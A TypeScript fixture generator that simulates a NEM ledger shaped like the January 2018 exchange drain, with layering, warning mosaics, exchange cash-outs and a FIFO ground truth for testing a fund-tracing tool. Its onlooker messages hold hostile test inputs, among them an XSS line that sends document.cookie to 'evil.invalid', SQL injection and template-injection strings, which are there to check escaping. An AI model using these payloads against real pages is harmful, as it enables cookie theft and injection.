import type { Label } from '@fundflow/core';
import { addressFromPublicKey } from '../address';
import { MICRO_XEM, unixToNemTime } from '../nem-time';
import type { NisInnerTransaction, NisTransaction, NisTransactionMetaDataPair } from '../nis-wire';
import { WARNING_MOSAICS } from '../warning-mosaics';
import type { NisLedger } from './fake-nis-node';
import { Prng } from './prng';

/**
 * A seeded, simulated NEM ledger shaped like the January 2018 exchange drain: the published first hop exactly (11
 * transfers, 526,300,010 XEM, times in JST), the attacker's split to 9 accounts in 10 moves, onlookers' messages to the
 * attacker, the 14 small transfers (1,100 XEM) four days later, warning-mosaic tagging, layering (splits, peels,
 * v2 mosaic transfers, one multisig account), fan-in accounts and a few exchange deposit accounts where value cashes
 * out. Every address is derived from a random public key (valid, but not a real account); every hash is random.
 *
 * `expected` is computed here by an independent first-in-first-out run over the generated ledger (not by the tracer).
 */
export interface DrainScenario {
  seed: number;
  ledger: NisLedger;
  hotWallet: string;
  attacker: string;
  /** The theft window (unix s): the hot wallet's outgoing transfers inside it are the stolen value. */
  since: number;
  until: number;
  stolen: bigint;
  /** Simulated labels for the case's labels.csv (exchange deposit accounts, victim, attacker, other). */
  labels: Label[];
  /** Accounts sent a warning mosaic, with the mosaic. */
  tagged: Map<string, string>;
  /** FIFO ground truth: stolen micro-XEM arriving at each exchange deposit account, and totals per stop reason. */
  expected: { cashOuts: Map<string, bigint>; byReason: Record<string, bigint> };
  counts: Record<string, number>;
  /** Date of the simulated labels (YYYY-MM-DD). */
  asOf: string;
}

const XEM = MICRO_XEM;
const JST = 9 * 3600;
const MAINNET_V1 = 0x68000001;
const MAINNET_V2 = 0x68000002;

/** unix seconds of a JST wall-clock time. */
export function jst(y: number, mo: number, d: number, h: number, mi: number, s = 0): number {
  return Date.UTC(y, mo - 1, d, h, mi, s) / 1000 - JST;
}

/** The first hop as published (amounts in XEM, JST times on 2018-01-26; see case.json `follows`). */
export const PUBLISHED_FIRST_HOP: readonly { xem: bigint; time: number }[] = [
  { xem: 10n, time: jst(2018, 1, 26, 0, 2, 13) },
  { xem: 100_000_000n, time: jst(2018, 1, 26, 0, 4, 31) },
  { xem: 100_000_000n, time: jst(2018, 1, 26, 0, 5, 47) },
  { xem: 100_000_000n, time: jst(2018, 1, 26, 0, 6, 52) },
  { xem: 100_000_000n, time: jst(2018, 1, 26, 0, 8, 5) },
  { xem: 100_000_000n, time: jst(2018, 1, 26, 0, 9, 12) },
  { xem: 20_000_000n, time: jst(2018, 1, 26, 0, 9, 58) },
  { xem: 3_000_000n, time: jst(2018, 1, 26, 0, 10, 41) },
  { xem: 1_500_000n, time: jst(2018, 1, 26, 3, 35, 8) },
  { xem: 1_000_000n, time: jst(2018, 1, 26, 4, 33, 27) },
  { xem: 800_000n, time: jst(2018, 1, 26, 8, 26, 44) },
];

type Role =
  | 'victim'
  | 'attacker'
  | 'layer'
  | 'fan-in'
  | 'exchange'
  | 'genesis'
  | 'user'
  | 'onlooker'
  | 'tagger'
  | 'cosigner';

interface Account {
  address: string;
  publicKey: string;
  role: Role;
  hop: number;
  multisig?: { cosigners: [Account, Account] };
}

interface Planned {
  time: number;
  from: Account;
  to: Account;
  /** XEM moved (micro-XEM). */
  xem: bigint;
  /** v2 with mosaics: the multiplier and each mosaic's quantity. */
  mosaics?: { multiplier: bigint; items: [string, bigint][] };
  message?: { type: 1 | 2; bytes: Uint8Array };
  fee: bigint;
  /** Fee of the multisig wrapper and cosignature, paid by `from` too. */
  multisigFee: bigint;
}

const ONLOOKER_MESSAGES = [
  'Please return the XEM. Everyone is watching this account.',
  '返してください。',
  'NEM Foundation is tracking every transfer from this account',
  '<script>alert("xem")</script>',
  '<img src=x onerror="fetch(`https://evil.invalid/?c=`+document.cookie)">',
  '"; DROP TABLE transfers; --',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202Egnp.exe',
  'javascript:alert(document.domain)',
  'I will buy your XEM at 50% off, DM me',
  'hello from a curious onlooker',
  '[link](javascript:alert(1)) **bold** _it_',
];

/**
 * Generates the simulated drain. Same seed → same ledger, byte for byte.
 * @example const s = generateDrainScenario({ seed: 2018 }); s.stolen === 526_300_010_000_000n
 */
export function generateDrainScenario(options: { seed?: number } = {}): DrainScenario {
  const seed = options.seed ?? 2018;
  const rng = new Prng(seed);
  const accounts = new Map<string, Account>();
  const newAccount = (role: Role, hop = 0): Account => {
    for (;;) {
      const publicKey = rng.hex(32);
      const address = addressFromPublicKey(publicKey, 'mainnet');
      if (accounts.has(address)) continue;
      const a: Account = { address, publicKey, role, hop };
      accounts.set(address, a);
      return a;
    }
  };

  const planned: Planned[] = [];
  const usedTimes = new Set<number>();
  const events = new Map<string, Planned[]>();
  const fee = (xem: bigint, messageBytes: number, mosaicCount = 0): bigint => {
    const whole = xem / XEM;
    const units =
      mosaicCount > 0 ? BigInt(mosaicCount) : whole / 10_000n < 1n ? 1n : whole / 10_000n > 25n ? 25n : whole / 10_000n;
    const message = messageBytes > 0 ? BigInt(Math.floor(messageBytes / 32) + 1) : 0n;
    return (units + message) * 50_000n;
  };
  const emit = (p: Omit<Planned, 'fee' | 'multisigFee'> & { mosaicFeeUnits?: number }): Planned => {
    let time = p.time;
    while (usedTimes.has(time)) time++;
    usedTimes.add(time);
    const messageBytes = p.message?.bytes.length ?? 0;
    const tx: Planned = {
      time,
      from: p.from,
      to: p.to,
      xem: p.xem,
      ...(p.mosaics ? { mosaics: p.mosaics } : {}),
      ...(p.message ? { message: p.message } : {}),
      fee: fee(p.xem, messageBytes, p.mosaicFeeUnits ?? 0),
      multisigFee: p.from.multisig ? 300_000n : 0n,
    };
    planned.push(tx);
    for (const a of [tx.from.address, tx.to.address]) {
      const list = events.get(a) ?? [];
      list.push(tx);
      events.set(a, list);
    }
    return tx;
  };
  const balanceAt = (a: Account, time: number): bigint => {
    let b = 0n;
    for (const t of events.get(a.address) ?? []) {
      if (t.time > time) continue;
      if (t.to === a) b += t.xem;
      if (t.from === a) b -= t.xem + t.fee + t.multisigFee;
    }
    return b;
  };
  const text = (s: string) => ({ type: 1 as const, bytes: new TextEncoder().encode(s) });

  // --- the victim's hot wallet before the theft: user deposits and withdrawals
  const hot = newAccount('victim');
  const attacker = newAccount('attacker', 1);
  const genesis = newAccount('genesis');
  const users = Array.from({ length: 40 }, () => newAccount('user'));
  for (let i = 0; i < 60; i++) {
    emit({
      time: jst(2018, 1, 24, 0, 0) + rng.int(0, 38 * 3600),
      from: rng.pick(users),
      to: hot,
      xem: BigInt(rng.int(50, 400_000)) * XEM,
    });
  }
  for (let i = 0; i < 140; i++) {
    const to = rng.pick(users);
    emit({
      time: jst(2018, 1, 24, 0, 0) + rng.int(0, 47 * 3600 + 1800),
      from: hot,
      to,
      xem: BigInt(rng.int(20, 250_000)) * XEM,
      ...(rng.chance(0.5) ? { message: text(`withdrawal ${rng.hex(4)}`) } : {}),
    });
  }

  // --- hop 1: exactly as published
  for (const h of PUBLISHED_FIRST_HOP) emit({ time: h.time, from: hot, to: attacker, xem: h.xem * XEM });
  const since = Date.UTC(2018, 0, 25, 15, 0, 0) / 1000;
  const until = Date.UTC(2018, 0, 26, 0, 0, 0) / 1000;

  // --- exchange deposit accounts (cash-out points) and the warning-mosaic senders
  const exchangeNames = ['Alpha', 'Bravo', 'Charlie', 'Delta', 'Echo'];
  const exchanges = exchangeNames.map(() => newAccount('exchange'));
  const [taggerMizunashi, taggerTs] = [newAccount('tagger'), newAccount('tagger')];
  const tagged = new Map<string, string>();
  const tag = (a: Account, time: number, mosaic: string) => {
    if (tagged.has(a.address)) return;
    tagged.set(a.address, mosaic);
    emit({
      time,
      from: mosaic === WARNING_MOSAICS[0] ? taggerMizunashi! : taggerTs!,
      to: a,
      xem: 0n,
      mosaics: { multiplier: 1_000_000n, items: [[mosaic, 1n]] },
      mosaicFeeUnits: 1,
      message: text('This account holds stolen funds. Do not accept trades.'),
    });
  };
  tag(attacker, jst(2018, 1, 27, 1, 12), WARNING_MOSAICS[0]!);

  // --- onlookers: funded from another exchange's withdrawals, then message the attacker
  const onlookers = Array.from({ length: 150 }, () => newAccount('onlooker'));
  const messageTimes = new Map<Account, number>();
  onlookers.forEach((o, i) => {
    const at = jst(2018, 1, 26, 5, 0) + Math.floor(((i + rng.next()) / onlookers.length) * (4 * 86_400 + 15 * 3600));
    emit({ time: at - rng.int(3600, 86_400), from: genesis, to: o, xem: BigInt(rng.int(20, 600)) * XEM });
    const message =
      i === 17
        ? { type: 2 as const, bytes: hexBytes(rng.hex(48)) }
        : text(ONLOOKER_MESSAGES[i % ONLOOKER_MESSAGES.length]!);
    const t = emit({ time: at, from: o, to: attacker, xem: rng.chance(0.2) ? XEM : 0n, message });
    messageTimes.set(o, t.time);
  });

  // --- hop 2: ten moves to nine accounts, 02:57–03:59 JST on 01-26 (amounts are simulated)
  const hop2 = Array.from({ length: 9 }, () => newAccount('layer', 2));
  const hop2Moves: [number, bigint][] = [
    [0, 20_000_000n],
    [1, 15_000_000n],
    [2, 12_500_000n],
    [3, 10_000_000n],
    [4, 8_000_000n],
    [5, 5_000_000n],
    [6, 3_000_000n],
    [0, 4_000_000n],
    [7, 1_000_000n],
    [8, 500_000n],
  ];
  const hop2Times = [0, 6, 13, 19, 26, 33, 40, 47, 54, 61].map(
    (m) => jst(2018, 1, 26, 2, 57) + m * 60 + rng.int(0, 40),
  );

  // --- the layering: each account acts some hours after stolen value arrives
  const wakes: { time: number; account: Account }[] = [];
  const scheduleWake = (a: Account, time: number) => wakes.push({ time, account: a });
  const fanIns = [jst(2018, 2, 12, 14, 0), jst(2018, 2, 20, 9, 30), jst(2018, 3, 1, 21, 15)].map((time) => {
    const a = newAccount('fan-in', 0);
    scheduleWake(a, time);
    return { account: a, time };
  });
  let multisigMade = false;
  let hostileDeposit = false;
  let v2Multiplier = 0;
  const arrive = (a: Account, time: number) => {
    if (a.role === 'layer') scheduleWake(a, time + rng.int(6 * 3600, 40 * 3600));
  };
  const newLayer = (hop: number, arrival: number): Account => {
    const a = newAccount('layer', hop);
    // Some accounts already hold clean XEM when stolen value arrives: FIFO, haircut and poison then differ.
    if (rng.chance(0.25))
      emit({
        time: arrival - rng.int(3600, 3 * 86_400),
        from: genesis,
        to: a,
        xem: BigInt(rng.int(500, 60_000)) * XEM,
      });
    if (hop <= 4 && rng.chance(0.45)) {
      tag(a, arrival + rng.int(6 * 3600, 3 * 86_400), rng.chance(0.8) ? WARNING_MOSAICS[0]! : WARNING_MOSAICS[1]!);
    }
    return a;
  };
  const send = (from: Account, to: Account, time: number, xem: bigint, message?: string) => {
    // A share of the layering uses v2 transfers carrying nem:xem, one of them with a multiplier other than 1.
    let mosaics: Planned['mosaics'];
    if (to.role !== 'exchange' && rng.chance(0.2)) {
      v2Multiplier++;
      mosaics =
        v2Multiplier === 3 && xem % 2n === 0n
          ? { multiplier: 2_000_000n, items: [['nem:xem', xem / 2n]] }
          : { multiplier: 1_000_000n, items: [['nem:xem', xem]] };
    }
    const t = emit({
      time,
      from,
      to,
      xem,
      ...(mosaics ? { mosaics } : {}),
      ...(message !== undefined ? { message: text(message) } : {}),
    });
    arrive(to, t.time);
    return t;
  };
  const deposit = (from: Account, time: number, xem: bigint) => {
    const memo =
      !hostileDeposit && from.hop >= 4 ? '<script>alert("deposit")</script>' : `deposit id ${rng.hex(4).toUpperCase()}`;
    if (memo.startsWith('<')) hostileDeposit = true;
    return send(from, rng.pick(exchanges), time, xem, memo);
  };
  const RESERVE = 2n * XEM; // per transfer: the largest fee plus a message fee

  hop2Moves.forEach(([i, xem], k) => {
    emit({ time: hop2Times[k]!, from: attacker, to: hop2[i]!, xem: xem * XEM });
  });
  for (const a of hop2) scheduleWake(a, jst(2018, 1, 27, 3, 0) + rng.int(0, 30 * 3600));
  hop2.forEach((a, i) => {
    tag(a, jst(2018, 1, 27, 9, 0) + i * 1800 + rng.int(0, 900), WARNING_MOSAICS[0]!);
  });

  // --- four days later: 14 small transfers to 9 onlookers who had messaged the attacker
  const early = onlookers.filter((o) => (messageTimes.get(o) ?? 0) < jst(2018, 1, 30, 20, 0));
  const recipients: Account[] = [];
  while (recipients.length < 9) {
    const o = rng.pick(early);
    if (!recipients.includes(o)) recipients.push(o);
  }
  const small = [
    ...recipients.map((r) => [r, 100n] as const),
    [recipients[0]!, 100n] as const,
    [recipients[1]!, 100n] as const,
    [recipients[2]!, 0n] as const,
    [recipients[3]!, 0n] as const,
    [recipients[4]!, 0n] as const,
  ];
  small.forEach(([r, xem], k) => {
    emit({ time: jst(2018, 1, 30, 22, 33) + k * 128 + rng.int(0, 60), from: attacker, to: r, xem: xem * XEM });
  });
  // Four of them move their whole balance (their own XEM first, then the 100 XEM) to an exchange.
  recipients.slice(0, 4).forEach((r, k) => {
    const at = jst(2018, 2, 1, 10, 0) + k * 20_000 + rng.int(0, 7200);
    const b = balanceAt(r, at);
    emit({
      time: at,
      from: r,
      to: rng.pick(exchanges),
      xem: b - 100_000n - 50_000n,
      message: text(`deposit id ${rng.hex(4).toUpperCase()}`),
    });
  });

  // Process wakes in time order: every transfer an account makes is dated at or after its wake, so the balance an
  // account sees at its wake is final.
  const processed = new Set<string>();
  for (let w = 0; w < 100_000; w++) {
    wakes.sort((a, b) => a.time - b.time || (a.account.address < b.account.address ? -1 : 1));
    const next = wakes.find((x) => !processed.has(`${x.account.address}@${x.time}`));
    if (!next) break;
    processed.add(`${next.account.address}@${next.time}`);
    const { account: a, time: T } = next;
    const balance = balanceAt(a, T);
    if (balance < 200n * XEM) continue;
    let t = T;
    const step = () => (t += rng.int(40, 900));
    const hop = a.hop;
    if (a.role === 'fan-in') {
      const parts = rng.int(1, 3);
      const each = (balance - BigInt(parts) * RESERVE) / BigInt(parts);
      for (let i = 0; i < parts; i++) deposit(a, step(), each);
      continue;
    }
    if (!multisigMade && hop === 3 && balance > 1_000_000n * XEM) {
      multisigMade = true;
      a.multisig = { cosigners: [newAccount('cosigner'), newAccount('cosigner')] };
      const kids = [newLayer(hop + 1, t + 200), newLayer(hop + 1, t + 400)];
      const half = (balance - 2n * RESERVE) / 2n;
      for (const k of kids) send(a, k, step(), half);
      continue;
    }
    const r = rng.next();
    const open = fanIns.filter((f) => f.time > T + 86_400);
    if (hop >= 8 || balance < 2_000n * XEM) {
      deposit(a, step(), balance - RESERVE);
    } else if (r < 0.42 && balance > 100_000n * XEM) {
      const k = rng.int(2, 4);
      const spend = balance - BigInt(k) * RESERVE;
      const weights = Array.from({ length: k }, () => rng.range(0.5, 1.5));
      const sum = weights.reduce((s, x) => s + x, 0);
      let left = spend;
      weights.forEach((wgt, i) => {
        const amount = i === k - 1 ? left : rng.part(spend, wgt / sum, XEM);
        left -= amount;
        send(a, newLayer(hop + 1, t + 60), step(), amount);
      });
    } else if (r < 0.68) {
      const peel = rng.part(balance, rng.range(0.05, 0.25), XEM);
      deposit(a, step(), peel);
      send(a, newLayer(hop + 1, t + 60), step(), balance - peel - 2n * RESERVE);
    } else if (r < 0.78 && hop >= 4 && open.length > 0) {
      send(a, rng.pick(open).account, step(), balance - RESERVE);
    } else if (r < 0.88) {
      deposit(a, step(), balance - RESERVE);
    } else if (r < 0.95) {
      send(a, newLayer(hop + 1, t + 60), step(), balance - RESERVE);
    }
    // else: the account keeps what it holds (unspent)
  }

  // --- serialise as NIS1 answers: ids and heights in time order
  planned.sort((a, b) => a.time - b.time);
  const transactions: NisTransactionMetaDataPair[] = [];
  let id = 1_540_000 + rng.int(0, 999);
  const height0 = 1_488_000;
  const t0 = jst(2018, 1, 24, 0, 0);
  for (const p of planned) {
    id += rng.int(1, 9);
    transactions.push(wirePair(p, id, height0 + Math.floor((p.time - t0) / 60), rng));
  }

  // --- opening balances: only accounts whose earlier history is outside the simulation (never reached by a trace)
  const opening = new Map<string, bigint>();
  for (const a of accounts.values()) {
    let running = 0n;
    let lowest = 0n;
    for (const t of [...(events.get(a.address) ?? [])].sort((x, y) => x.time - y.time)) {
      if (t.to === a) running += t.xem;
      if (t.from === a) running -= t.xem + t.fee + t.multisigFee;
      if (running < lowest) lowest = running;
    }
    if (lowest < 0n) {
      if (!['genesis', 'victim', 'user', 'tagger'].includes(a.role)) {
        throw new Error(`simulation bug: ${a.role} ${a.address} overdraws by ${-lowest}`);
      }
      opening.set(a.address, -lowest + BigInt(rng.int(1_000, 5_000_000)) * XEM);
    }
  }

  const expected = fifoGroundTruth(planned, hot, since, until);
  const stolen = PUBLISHED_FIRST_HOP.reduce((s, h) => s + h.xem * XEM, 0n);
  const asOf = '2018-03-31';
  const src = `simulated: @fundflow/nem generateDrainScenario (seed ${seed})`;
  const label = (a: Account, name: string, category: Label['category']): Label => ({
    address: a.address,
    chain: 'nem',
    name,
    category,
    pack: '',
    source: src,
    asOf,
    confidence: 'high',
  });
  const labels = [
    label(hot, 'Simulated exchange NEM hot wallet (victim of the simulated drain)', 'victim'),
    label(attacker, 'Simulated attacker account (receives the simulated drain)', 'attacker'),
    label(genesis, 'Simulated other exchange, withdrawal account (clean funds)', 'exchange'),
    label(taggerMizunashi!, 'Simulated warning-mosaic sender (mizunashi…)', 'other'),
    label(taggerTs!, 'Simulated warning-mosaic sender (ts:…)', 'other'),
    ...exchanges.map((x, i) => label(x, `SimExchange ${exchangeNames[i]} deposit account (simulated)`, 'exchange')),
  ];
  const roles: Record<string, number> = {};
  for (const a of accounts.values()) roles[a.role] = (roles[a.role] ?? 0) + 1;
  return {
    seed,
    ledger: { network: 'mainnet', transactions, opening, now: unixToNemTime(jst(2018, 4, 1, 0, 0)) },
    hotWallet: hot.address,
    attacker: attacker.address,
    since,
    until,
    stolen,
    labels,
    tagged,
    expected,
    counts: {
      accounts: accounts.size,
      transactions: transactions.length,
      multisig: transactions.filter((t) => t.transaction.type === 4100).length,
      v2: transactions.filter((t) => (t.transaction.version & 0xff) === 2).length,
      tagged: tagged.size,
      ...Object.fromEntries(Object.entries(roles).map(([k, v]) => [`role:${k}`, v])),
    },
    asOf,
  };
}

/**
 * The independent FIFO bookkeeping: each account's balance is a queue of lots (stolen or clean) in arrival order;
 * a transfer takes its amount from the front, then its fee. The victim's outgoing transfers inside the window are
 * stolen by definition; value reaching an exchange deposit account is a cash-out and leaves the traced graph.
 */
function fifoGroundTruth(planned: Planned[], hot: Account, since: number, until: number) {
  type Lot = { amount: bigint; stolen: boolean };
  const queues = new Map<string, Lot[]>();
  const cashOuts = new Map<string, bigint>();
  let fee = 0n;
  const take = (a: Account, n: bigint): Lot[] => {
    const q = queues.get(a.address) ?? [];
    queues.set(a.address, q);
    const out: Lot[] = [];
    let left = n;
    while (left > 0n) {
      const head = q[0];
      if (!head) {
        // Accounts outside the simulation (genesis, users, taggers) hold clean funds not modelled as lots.
        if (['genesis', 'user', 'tagger'].includes(a.role)) {
          out.push({ amount: left, stolen: false });
          break;
        }
        throw new Error(`ground truth: ${a.role} ${a.address} has no funds for ${left}`);
      }
      // bigint: Math.min does not apply.
      let used = head.amount;
      if (used > left) used = left;
      out.push({ amount: used, stolen: head.stolen });
      head.amount -= used;
      left -= used;
      if (head.amount === 0n) q.shift();
    }
    return out;
  };
  for (const p of [...planned].sort((a, b) => a.time - b.time)) {
    let lots: Lot[];
    if (p.from === hot) {
      lots = [{ amount: p.xem, stolen: p.time >= since && p.time <= until }];
    } else {
      lots = take(p.from, p.xem);
      for (const l of take(p.from, p.fee + p.multisigFee)) if (l.stolen) fee += l.amount;
    }
    if (p.to.role === 'exchange') {
      const s = lots.reduce((sum, l) => sum + (l.stolen ? l.amount : 0n), 0n);
      if (s > 0n) cashOuts.set(p.to.address, (cashOuts.get(p.to.address) ?? 0n) + s);
      continue;
    }
    if (p.to === hot) continue;
    const q = queues.get(p.to.address) ?? [];
    queues.set(p.to.address, q);
    for (const l of lots) if (l.amount > 0n) q.push({ ...l });
  }
  let unspent = 0n;
  for (const q of queues.values()) for (const l of q) if (l.stolen) unspent += l.amount;
  const cash = [...cashOuts.values()].reduce((s, v) => s + v, 0n);
  const byReason: Record<string, bigint> = { 'cash-out': cash, unspent };
  if (fee > 0n) byReason.fee = fee;
  return { cashOuts, byReason };
}

function wirePair(p: Planned, id: number, height: number, rng: Prng): NisTransactionMetaDataPair {
  const timeStamp = unixToNemTime(p.time);
  const message = p.message === undefined ? {} : { payload: bytesHex(p.message.bytes), type: p.message.type };
  const transfer: NisInnerTransaction = {
    timeStamp,
    amount: Number(p.mosaics ? p.mosaics.multiplier : p.xem),
    signature: rng.hex(64),
    fee: Number(p.fee),
    recipient: p.to.address,
    type: 257,
    deadline: timeStamp + 3600,
    message,
    version: p.mosaics ? MAINNET_V2 : MAINNET_V1,
    signer: p.from.publicKey,
  };
  if (p.mosaics) {
    transfer.mosaics = p.mosaics.items.map(([key, quantity]) => {
      const i = key.indexOf(':');
      return { quantity: Number(quantity), mosaicId: { namespaceId: key.slice(0, i), name: key.slice(i + 1) } };
    });
  }
  const hash = rng.hex(32);
  if (!p.from.multisig) {
    return { meta: { innerHash: {}, id, hash: { data: hash }, height }, transaction: transfer };
  }
  // Inner transfer signed by the multisig account; the wrapper by one cosignatory, cosigned by the other.
  const innerHash = rng.hex(32);
  const [first, second] = p.from.multisig.cosigners;
  delete transfer.signature;
  const wrapper: NisTransaction = {
    timeStamp,
    signature: rng.hex(64),
    fee: 150_000,
    type: 4100,
    deadline: timeStamp + 3600,
    version: MAINNET_V1,
    signatures: [
      {
        timeStamp: timeStamp + 30,
        otherHash: { data: innerHash },
        otherAccount: p.from.address,
        signature: rng.hex(64),
        fee: 150_000,
        type: 4098,
        deadline: timeStamp + 3630,
        version: MAINNET_V1,
        signer: second.publicKey,
      },
    ],
    signer: first.publicKey,
    otherTrans: transfer,
  };
  return { meta: { innerHash: { data: innerHash }, id, hash: { data: hash }, height }, transaction: wrapper };
}

function bytesHex(bytes: Uint8Array): string {
  let s = '';
  for (const b of bytes) s += b.toString(16).padStart(2, '0');
  return s;
}

function hexBytes(hex: string): Uint8Array {
  const out = new Uint8Array(hex.length / 2);
  for (let i = 0; i < out.length; i++) out[i] = Number.parseInt(hex.slice(2 * i, 2 * i + 2), 16);
  return out;
}
